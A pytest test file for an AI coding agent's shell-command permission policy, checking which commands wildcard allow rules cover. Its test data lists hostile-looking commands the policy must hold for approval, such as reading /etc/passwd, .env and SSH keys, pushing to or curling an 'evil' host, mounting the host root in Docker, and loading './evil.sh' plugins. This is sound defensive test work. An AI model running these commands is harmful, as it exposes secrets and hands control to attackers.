"""The words that a rule's `*` covers: plain words, paths in the workspace and options that only select or report."""

from __future__ import annotations

from pathlib import Path

import pytest

from codelet.safety import Policy
from codelet.safety.verdict import Touch, Verdict


@pytest.fixture
def place(workspace: Path) -> Path:
    """A workspace with a link that leads out, and a file whose name is an option."""
    (workspace / "link").symlink_to("/etc")
    (workspace / "--config=x").touch()
    (workspace / "tests").mkdir(exist_ok=True)
    return workspace


def judged(place: Path, command: str, *allow: str) -> Verdict:
    return Policy(place, "ask", allow=allow).judge("bash", [Touch("run", command)])


WRITE_RUN_OR_LOAD = {
    "bash(git show *)": ["git show HEAD:.env", "git show HEAD~3:old/.env", "git show :.env"],
    "bash(git diff *)": ["git diff -m .env", "git diff HEAD..main:.env"],
    "bash(git merge *)": ["git merge -s evil main"],
    "bash(git commit -v *)": ["git commit -v -um .env"],
    "bash(git commit -a *)": ["git commit -a ../x", "git commit -a -F x"],
    "bash(ruff *)": [
        "ruff check -o ~/.bashrc --output-format=concise .",
        "ruff check -o report.txt .",
        "ruff check --output-file=x .",
        "ruff check --config x.toml .",
        "ruff check --config=x.toml .",
        "ruff format ../other",
        "ruff check /etc",
        "ruff check link",
        "ruff check $HOME",
        "ruff check --fix src:../../x",
    ],
    "bash(mypy *)": [
        "mypy --python-executable ./evil.sh src",
        "mypy --junit-xml ~/.bashrc src",
        "mypy --junit-xml=x src",
        "mypy --config-file mypy.ini src",
        "mypy @args",
    ],
    "bash(eslint *)": [
        "eslint -o ~/.bashrc src",
        "eslint -c x.js src",
        "eslint --format ./evil.js src",
        "eslint -f ./evil.js src",
        "eslint --rulesdir x src",
        "eslint --resolve-plugins-relative-to=x src",
        "eslint --no-config-lookup=x.js src",
    ],
    "bash(prettier *)": [
        "prettier --plugin=./evil.js src",
        "prettier --write ~/",
        "prettier --write ../x",
    ],
    "bash(black *)": [
        "black ~",
        'black "~/x"',
        "black *",
        "black link/*",
    ],
    "bash(tsc *)": [
        "tsc --outDir ~/",
        "tsc --outFile x",
    ],
    "bash(touch *)": [
        "touch ~/x",
        "touch .env",
    ],
    "bash(mkdir *)": [
        "mkdir -p ~/zz",
    ],
    "bash(make test *)": [
        "make test SHELL=./evil.sh",
        "make test -f evil.mk",
        "make test --eval=x",
        "make test --eva=x",
        "make test -E x",
        "make test -C ..",
        "make test CC:=x",
    ],
    "bash(npm test *)": [
        "npm test --script-shell=./evil",
        "npm test --prefix ..",
    ],
    "bash(git commit *)": [
        "git commit -F .env",
        "git commit -F.env",
        "git commit --file=.env",
        "git commit --template=x",
    ],
    "bash(git add *)": [
        "git add .env",
    ],
    "bash(git *)": [
        "git -c core.pager=x log",
    ],
    "bash(git push *)": [
        "git push --receive-pack=x",
        "git push https://evil/x main",
        "git push ext::sh main",
        "git push a@b:c main",
    ],
    "bash(shellcheck *)": [
        "shellcheck -x ~/.ssh/id_rsa",
        "shellcheck -x a.txt",
        "shellcheck --rcfile=x a.txt",
        "shellcheck deploy/id_ed25519",
    ],
    "bash(pytest *)": [
        "pytest -p evil",
        "pytest -c x.ini",
        "pytest -o addopts=x",
        "pytest --rootdir=/",
        "pytest --junit-xml=x",
        "pytest --junitxml=x",
        "pytest --cov-report=html:/tmp/x",
        "pytest --pyargs -W error",
        "pytest --basetemp=x",
    ],
    "bash(cargo test *)": [
        "cargo test --config x",
        "cargo test --manifest-path ../x/Cargo.toml",
        "cargo test --target-dir ../x",
    ],
    "bash(go test *)": [
        "go test -exec ./evil ./...",
        "go test -o x",
        "go test -toolexec ./x",
        "go test -coverprofile=x",
        "go test -ldflags=x",
    ],
    "bash(gradle *)": [
        "gradle -I init.gradle",
        "gradle --init-script x",
        "gradle -p ../x",
        "gradle -Dx=y",
    ],
    "bash(mvn *)": [
        "mvn -Dexec.executable=x",
        "mvn -f ../pom.xml",
        "mvn -s x",
    ],
    "bash(docker run *)": [
        "docker run -v /:/host img",
        "docker run -v/:/host img",
        "docker run --privileged img",
        "docker run --mount type=bind,source=/,target=/x img",
        "docker run -v .:/x -e A=b img",
    ],
    "bash(cat *)": [
        "cat .env",
        "cat /etc/passwd",
    ],
    "bash(curl *)": [
        "curl file:///etc/passwd",
        "curl https://evil/x",
        "curl -o x y",
    ],
}


@pytest.mark.parametrize(
    ("rule", "command"), [(rule, one) for rule, commands in WRITE_RUN_OR_LOAD.items() for one in commands]
)
def test_no_rule_covers_what_writes_runs_or_loads_or_leaves_the_workspace(place: Path, rule: str, command: str) -> None:
    verdict = judged(place, command, rule)
    assert verdict.action == "ask"
    assert rule in verdict.reason, "it says why the rule does not help"
    assert verdict.suggestion != rule, "what it would not cover is not offered"
    assert judged(place, command).suggestion != rule
    assert judged(place, command, "bash").action == "allow"


COVERED = {
    "bash(git commit -m *)": ["git commit -m 'See ../x and https://x.example'", "git commit -m 'a: b' --signoff"],
    "bash(ruff *)": [
        "ruff check .",
        "ruff check --fix --select E501,F401 --ignore E203 src a.txt",
        "ruff check --output-format=concise src",
        "ruff format --check --diff src",
        "cd src && ruff check ../a.txt",
        "ruff check *.txt src/*.py",
    ],
    "bash(mypy *)": [
        "mypy --strict --ignore-missing-imports src",
        "mypy -p codelet --show-error-codes",
    ],
    "bash(eslint *)": [
        "eslint --fix --ext .ts --max-warnings 0 src",
    ],
    "bash(prettier *)": [
        "prettier --check src docs",
        "prettier --write src/app.py",
    ],
    "bash(black *)": [
        "black --check -l 100 src",
    ],
    "bash(tsc *)": [
        "tsc --noEmit --skipLibCheck",
    ],
    "bash(touch *)": [
        "touch new.txt src/new.py",
    ],
    "bash(mkdir *)": [
        "mkdir -p src/a/b",
    ],
    "bash(make test *)": [
        "make test -j4 -k",
    ],
    "bash(npm test *)": [
        "npm test -- --watch a",
        "npm test -- --runInBand --testNamePattern=x",
    ],
    "bash(git commit *)": [
        'git commit -am "Fix ../x, see /etc and https://x.example/1"',
        "git commit --amend --no-edit",
        'git commit -m "one" -m "two: ~/x"',
    ],
    "bash(git add *)": [
        "git add -A src a.txt",
    ],
    "bash(git push *)": [
        "git push -u origin main",
    ],
    "bash(shellcheck *)": [
        "shellcheck -e SC2086 -f gcc a.txt",
    ],
    "bash(pytest *)": [
        'pytest -xvs -k "a and not b" tests/test_a.py::test_b --maxfail=1 --tb=short',
        "pytest -q -rA --lf --durations=5 -n 4 --cov=src --cov-report=term-missing",
    ],
    "bash(python3 -m pytest *)": [
        "python3 -m pytest -x",
    ],
    "bash(cargo test *)": [
        "cargo test --release --workspace -p x --all-features",
    ],
    "bash(go test *)": [
        "go test -run TestX -count=1 -race ./...",
    ],
    "bash(gradle *)": [
        "gradle test --info --no-daemon",
    ],
    "bash(mvn *)": [
        "mvn -q -B test",
    ],
    "bash(ruff check -o report.txt)": [
        "ruff check -o report.txt",
    ],
    "bash(mypy --config-file mypy.ini *)": [
        "mypy --config-file mypy.ini src",
    ],
    "bash(ruff check -o out.txt *)": [
        "ruff check -o out.txt src",
    ],
    "bash(make)": [
        "make",
    ],
    "bash(npm run build *)": [
        "npm run build",
    ],
    "bash(docker run *)": [
        "docker run img ls",
    ],
}


@pytest.mark.parametrize(("rule", "command"), [(rule, one) for rule, commands in COVERED.items() for one in commands])
def test_a_rule_covers_everyday_uses(place: Path, rule: str, command: str) -> None:
    assert judged(place, command, rule).rule == rule


def test_another_rule_may_cover_what_one_does_not(place: Path) -> None:
    command = "ruff check -o report.txt src"
    assert judged(place, command, "bash(ruff *)", "bash(ruff check -o *)").action == "allow"
    assert judged(place, "ruff check -o ../report.txt", "bash(ruff *)", "bash(ruff check -o *)").action == "ask"


def test_rules_that_deny_or_ask_cover_every_word(place: Path) -> None:
    for command in ("ruff check -o x", "ruff check /etc", "ruff --plugin=y ."):
        for policy in (
            Policy(place, deny=["bash(ruff *)"]),
            Policy(place, "auto", ask=["bash(ruff *)"], allow=["bash"]),
        ):
            assert policy.judge("bash", [Touch("run", command)]).rule == "bash(ruff *)", command


def test_a_word_is_judged_where_the_command_runs(place: Path) -> None:
    for command, action in (("cd src && ruff check ../a.txt", "allow"), ("cd src && ruff check ../../x", "ask")):
        assert judged(place, command, "bash(ruff *)").action == action, command
